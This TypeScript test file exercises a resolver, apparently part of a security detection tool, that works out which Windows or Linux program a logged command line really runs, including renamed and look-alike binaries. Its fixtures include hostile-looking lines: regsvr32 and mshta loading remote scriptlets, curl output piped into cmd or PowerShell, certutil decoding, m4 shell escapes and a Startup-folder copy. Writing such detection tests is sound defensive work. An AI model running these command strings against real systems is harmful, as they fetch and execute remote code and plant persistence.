import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { millis } from "../../test/support/cost.ts";
import { testCatalog } from "../../test/support/events.ts";
import { resolve } from "./resolve.ts";
import { MAX_DEPTH, MAX_INVOCATIONS } from "./state.ts";
import type { Request } from "./types.ts";

const names = (request: Request) => resolve(request, testCatalog()).invocations.map(({ binary }) => binary.name);
const runs = (request: Request) =>
  resolve(request, testCatalog()).invocations.flatMap((i) => i.behaviours.flatMap((b) => b.runs.map((p) => p.value)));
const typed = (commandLine: string): Request => ({ commandLine });

describe("who runs", () => {
  it("is told by the original file name before the image and the name on the line", () => {
    const commandLine = "svc.exe /s C:\\ProgramData\\a.dll";
    const [known] = resolve(
      { commandLine, image: "C:\\t\\svc.exe", originalFileName: "REGSVR32.EXE" },
      testCatalog(),
    ).invocations;
    expect(known?.binary).toMatchObject({
      name: "regsvr32.exe",
      renamed: true,
      by: "originalFileName",
      path: "C:\\t\\svc.exe",
    });
    const [image] = resolve({ commandLine, image: "C:\\Windows\\System32\\regsvr32.exe" }, testCatalog()).invocations;
    expect(image?.binary).toMatchObject({ name: "regsvr32.exe", renamed: false, by: "image" });
  });
  it("is told by the arguments alone where they fit one program only, and only for odd lines", () => {
    const odd: Request = { commandLine: "x.exe /u /i:http://h.example/a.sct scrobj.dll", image: "C:\\t\\x.exe" };
    expect(resolve(odd, testCatalog()).invocations[0]?.binary).toMatchObject({
      name: "regsvr32.exe",
      by: "behaviour",
      renamed: true,
    });
    expect(names({ commandLine: "x.exe /s /u report.txt", image: "C:\\t\\x.exe" })).toEqual(["x.exe"]);
    for (const args of [
      '"D:\\kit\\a b.dll",Start',
      "D:\\kit\\a.dll., Start",
      "\\\\?\\D:\\kit\\a.dll,Start",
      "\\\\?\\UNC\\localhost\\D$\\kit\\a.dll, Start",
    ])
      expect(names({ commandLine: `"C:\\t\\x.exe" ${args}`, image: "C:\\t\\x.exe" }), args).toEqual(["rundll32.exe"]);
    for (const line of [
      "x.exe D:\\kit\\a.dll",
      "x.exe D:\\kit\\a.dll, D:\\kit\\b.dll",
      "x.exe shell32.dll,3",
      "x.exe --icon=a.dll,Start",
      "x.exe /q D:\\kit\\a.dll,Start",
    ])
      expect(names({ commandLine: line, image: "C:\\t\\x.exe" }), line).toEqual(["x.exe"]);
  });
  it("is of Windows where the line has its paths, though the first word may be a program of Linux", () => {
    expect(names({ commandLine: "tar -xf ..\\kit:a.tar" })[0]).toBe("tar.exe");
    expect(names({ commandLine: ". C:\\kit\\a.ps1 -Fast" })[0]).toBe("powershell.exe");
    expect(names({ commandLine: ". ./env.sh" })[0]).not.toBe("powershell.exe");
  });
  it("is also the library that acts on the arguments", () => {
    const [host, library] = resolve(
      { commandLine: "rundll32 ieadvpack.dll,LaunchINFSection D:\\kit\\a.inf,Setup,1," },
      testCatalog(),
    ).invocations;
    expect(host?.behaviours.map(({ id }) => id)).toEqual(["windows/rundll32/ieadvpack-inf"]);
    expect(library).toMatchObject({ binary: { name: "ieadvpack.dll" }, parent: 0, behaviours: [] });
  });
  it("names an impostor's look-alike letters", () => {
    const [invocation] = resolve(
      { commandLine: "a", image: "C:\\Wіndows\\System32\\regsvr32.exe" },
      testCatalog(),
    ).invocations;
    expect(invocation?.binary.impostor).toContain("read as");
  });
  it.each([
    ["%COMSPEC% /Q /c D:\\k\\a.exe", ["D:\\k\\a.exe"]],
    ['cmd /c "mftrace go.exe"', ["mftrace go.exe", "go.exe"]],
    ["mshta https://h.example/p/a.hta?v=2&id=7", ["https://h.example/p/a.hta?v=2&id=7"]],
    ["logger.exe RUN Z:/b/c/x.exe", ["Z:/b/c/x.exe"]],
  ])("is the program of %s", (commandLine, expected) => {
    expect(runs({ commandLine, platform: "windows" })).toEqual(expected);
  });
  it("finds the program where its name is missing from the line", () => {
    expect(runs({ commandLine: "/s C:\\d\\a.dll", image: "C:\\Windows\\System32\\regsvr32.exe" })).toEqual([
      "C:\\d\\a.dll",
    ]);
  });
});

describe("a program that nobody knows", () => {
  it.each(["-decode", "\u2010decode", "/d\u00e9code", "-de\u2060code"])(
    "is known by the marks of its line: %s",
    (option) => {
      const commandLine = `p.exe ${option} D:\\a.txt D:\\b.exe`;
      const [first] = resolve({ commandLine, image: "D:\\p.exe", platform: "windows" }, testCatalog()).invocations;
      expect(first?.binary.entry).toBe("windows/certutil");
    },
  );
});

describe("nesting", () => {
  it.each([
    ["a descriptor in its place", "echo 'esyscmd(/bin/sh 0<&2)' | m4"],
    ["code that was read from it", "echo 'esyscmd(/bin/sh)' | m4"],
    ["a program that keeps it", "echo id | xargs -a list /bin/sh"],
  ])("gives a command no input past %s", (_, line) => {
    expect(runs({ commandLine: line, platform: "linux" })).toEqual(["/bin/sh"]);
  });
  it.each([
    ["echo '/opt/a b' | xargs env", ["env /opt/a b", "/opt/a b"]],
    [`echo "-c '/opt/a -q'" | xargs sh`, ["sh -c /opt/a -q", "/opt/a -q"]],
    ["printf '/opt/a\n/opt/b\n' | xargs -I% env %", ["env /opt/a", "env /opt/b", "/opt/a", "/opt/b"]],
    ["echo a,b | xargs -d, env", ["env"]],
    ["cat list | xargs env", ["env"]],
    ["echo | xargs -i env {}", ["env {}", "{}"]],
  ])("puts what is known of the input into the words of %s", (line, wanted) => {
    expect(runs({ commandLine: line, platform: "linux" })).toEqual(wanted);
  });
  it("bounds what an input makes of a word", () => {
    const line = `echo ${"a".repeat(40_000)} | xargs -I% env ${"%".repeat(40_000)}`;
    for (const value of runs({ commandLine: line, platform: "linux" })) expect(value.length).toBeLessThan(200_000);
  });
  it("takes asking for a program for no start of it", () => {
    expect(
      names({ commandLine: "sh -c 'command -v /opt/a; $(which python3 || which python) -V'", platform: "linux" }),
    ).toEqual(["sh", "python", "which", "which"]);
  });
  it("names the program behind words that only say how a shell starts it", () => {
    const line = "sh -c 'exec -a x /opt/a 1; command -p /opt/b'";
    expect(
      resolve({ commandLine: line, platform: "linux" }, testCatalog()).invocations[0]?.behaviours[0]?.runs,
    ).toMatchObject([{ value: "/opt/a 1", resolved: "/opt/a" }, { value: "/opt/b" }]);
  });
  it("leaves out what is read from nothing and written to nowhere", () => {
    const [strace] = resolve({ args: ["strace", "-o", "/dev/null", "/opt/a"] }, testCatalog()).invocations;
    expect(strace?.behaviours.map(({ id }) => id)).toEqual(["linux/strace/command"]);
  });
  it("lists every invocation, outermost first, with its parent", () => {
    const { invocations } = resolve(typed("cmd /c start /b rundll32 C:\\d\\a.dll,Go"), testCatalog());
    expect(invocations.map(({ binary, parent }) => [binary.name, parent])).toEqual([
      ["cmd.exe", undefined],
      ["start", 0],
      ["rundll32.exe", 1],
    ]);
  });
  it("follows Linux wrappers as argv and as text", () => {
    const args = ["env", "A=1", "find", "/srv", "-exec", "sh", "-c", "/tmp/x -q", ";"];
    expect(names({ args })).toEqual(["env", "find", "sh", "x"]);
    expect(names({ commandLine: "env A=1 find /srv -exec sh -c '/tmp/x -q' \\;", platform: "linux" })).toEqual([
      "env",
      "find",
      "sh",
      "x",
    ]);
  });
  it("hands down variables of every name", () => {
    for (const name of ["A", "__proto__"])
      expect(runs({ commandLine: `env ${name}=/dev/shm/k sh -c '$${name} -q'`, platform: "linux" })).toContain(
        "/dev/shm/k -q",
      );
  });
  it("reads what the line itself wrote or copied before", () => {
    const script = 'echo GetObject("script:http://h.example/a.sct") > C:\\d\\a.js && mshta.exe C:\\d\\a.js';
    expect(runs(typed(script)).some((value) => value.includes("http://h.example/a.sct"))).toBe(true);
    const copy = "copy C:\\Windows\\System32\\regsvr32.exe C:\\d\\chat.exe && C:\\d\\chat.exe /s C:\\d\\a.dll";
    expect(names(typed(copy))).toContain("regsvr32.exe");
  });
  it("reads a word of cmd's own as cmd does, where a log has it without a process", () => {
    const line = 'copy a.exe "C:\\Start Menu\\Programs\\Startup\\"';
    const [, { behaviours = [] } = {}] = resolve(
      { commandLine: line, as: "logged", platform: "windows" },
      testCatalog(),
    ).invocations;
    expect(behaviours[0]?.writes[0]?.value).toBe("C:\\Start Menu\\Programs\\Startup\\");
  });
  it("adds the shell that a typed line needs", () => {
    expect(names(typed("type C:\\a.txt > C:\\b.txt"))).toEqual(["cmd.exe", "type"]);
    expect(names(typed("echo /tmp/x | sh"))).toEqual(["sh", "echo", "sh", "x"]);
  });
});

describe("limits", () => {
  it("cuts ten thousand nested wrappers and says so", () => {
    const args = [...Array.from({ length: 10_000 }, () => "env"), "/tmp/x"];
    const { invocations } = resolve({ args }, testCatalog());
    expect(invocations.length).toBeLessThanOrEqual(MAX_DEPTH + 2);
    expect(invocations[0]?.cut).toContain("deep");
  });
  it("cuts a list of commands without end", () => {
    const { invocations } = resolve(
      { commandLine: `cmd /c ${"calc & ".repeat(5000)}`, platform: "windows" },
      testCatalog(),
    );
    expect(invocations.length).toBeLessThanOrEqual(MAX_INVOCATIONS);
    expect(invocations[0]?.cut).toBeDefined();
  });
  it("does not carry the command of a prompt out again in each shell of that command", () => {
    expect(names({ commandLine: "PROMPT_COMMAND='x | sh' bash", platform: "linux" })).toEqual(["bash", "x", "sh"]);
  });
  it("looks at what nested pipes hand on only so often, and at each command itself all the same", () => {
    let line = "sh";
    for (let depth = 0; depth < 10; depth++) line = `x | sh -c '${line.replaceAll("'", `'"'"'`)}'`;
    const { invocations } = resolve({ commandLine: line, platform: "linux" }, testCatalog());
    expect(invocations.length).toBeGreaterThan(20);
    expect(invocations[0]?.cut).toContain("hand to others");
  });
  it("answers a line of ten megabytes in bounded time", () => {
    const line = typed(`regsvr32 /s ${"a".repeat(10_000_000)}.dll`);
    let cut: string | undefined;
    const run = () => {
      cut = resolve(line, testCatalog()).invocations[0]?.cut;
    };
    expect(millis(run, 10_000, 2)).toBeLessThan(10_000);
    expect(cut).toContain("longer");
  });
  it("never throws, whatever stands there", () => {
    const piece = fc.oneof(
      fc.string(),
      fc.string({ unit: "binary" }),
      fc.constantFrom("regsvr32 ", "cmd /c ", '"', "^", "%a%", "\\", "/i:", "| sh", "$(", "`", "\ud800"),
    );
    fc.assert(
      fc.property(
        fc.array(piece, { maxLength: 12 }),
        fc.constantFrom("windows", "linux", undefined),
        (pieces, platform) => {
          resolve({ commandLine: pieces.join(""), ...(platform && { platform }) } as Request, testCatalog());
          resolve({ args: pieces, ...(platform && { platform }) } as Request, testCatalog());
        },
      ),
      { numRuns: 300 },
    );
  });
});

it("knows who ran but claims nothing where the log has no arguments", () => {
  const { invocations } = resolve({ image: "C:\\Windows\\System32\\rundll32.exe", as: "logged" }, testCatalog());
  expect(invocations[0]?.binary.name).toBe("rundll32.exe");
  expect(invocations[0]?.behaviours).toEqual([]);
});

it.each([
  ["curl -sSL https://files.plover.com/install.sh -o install.sh && bash install.sh", "linux"],
  ["curl -o i.sh files.plover.com/i.sh && bash i.sh", "linux"],
  ["tar xf https://plover.com:8080/a.tar", "linux"],
  ["curl -o a.exe https://files.plover.com/a", "windows"],
  ["curl https://files.plover.com/a.exe | more.com", "windows"],
  ["curl -o %TEMP%\\a https://files.plover.com", "windows"],
  ["curl https://files.plover.com/a | cmd", "windows"],
  ["curl https://files.plover.com/a | powershell -noprofile -", "windows"],
  ["curl https://files.plover.com/a | cmdtool", "linux"],
])("takes %s for a line of %s", (commandLine, platform) => {
  expect(resolve({ commandLine }, testCatalog()).platform).toBe(platform);
});
